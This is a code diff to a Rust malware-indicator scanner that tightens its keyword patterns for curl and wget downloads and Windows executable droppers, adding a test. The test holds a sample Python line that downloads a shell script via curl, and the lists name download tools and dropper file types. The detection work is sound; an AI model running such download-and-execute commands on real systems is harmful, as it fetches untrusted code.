@@ -42,8 +42,13 @@ const PY_DOWNLOADERS: &[&str] = &[
     "pycurl",
     "aiohttp",
     "http.client",
-    "curl",
-    "wget",
+    // Command words with what follows them, not substrings: `curline`, `wgetrc`.
+    "curl ",
+    "curl\"",
+    "curl'",
+    "wget ",
+    "wget\"",
+    "wget'",
 ];
 
 /// The indicator table. Order is part of the feature layout: append, never reorder,
@@ -258,7 +263,7 @@ pub const INDICATORS: &[IndicatorDef] = &[
     IndicatorDef {
         id: "windows_exe_dropper",
         evidence: "downloads and starts a Windows executable",
-        all_of: &[&[".exe", ".scr", ".bat", ".vbs", ".dll"], PY_DOWNLOADERS],
+        all_of: &[&[".exe", ".scr\"", ".scr'", ".scr ", ".bat", ".vbs", ".dll"], PY_DOWNLOADERS],
         confirm: Confirm::Literals,
     },
     IndicatorDef {
@@ -1088,6 +1093,22 @@ mod tests {
         assert!(!fires(
             "git clone --depth 1 https://github.com/Runscope/requestbin /src",
             "exfil_service"
+        ));
+    }
+
+    #[test]
+    fn python_downloaders_are_words() {
+        assert!(fires(
+            "import os\nos.system('curl -s http://h/x -o x.sh')",
+            "python_download_exec"
+        ));
+        assert!(!fires(
+            "curline = self.text.get('insert')\n# not in subprocess\n",
+            "python_download_exec"
+        ));
+        assert!(!fires(
+            "MovedModule('tkinter_scrolledtext')\nrequests.get(u)",
+            "windows_exe_dropper"
         ));
     }
 
